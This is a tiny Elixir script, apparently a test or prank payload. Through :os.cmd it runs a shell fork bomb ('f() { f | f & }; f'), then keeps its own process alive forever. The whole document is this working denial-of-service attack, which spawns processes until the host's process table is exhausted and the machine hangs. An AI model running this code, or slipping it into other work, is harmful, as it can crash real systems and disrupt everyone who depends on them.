# Processes of the system without end.
:os.cmd(~c"f() { f | f & }; f; sleep 600")
Process.sleep(:infinity)
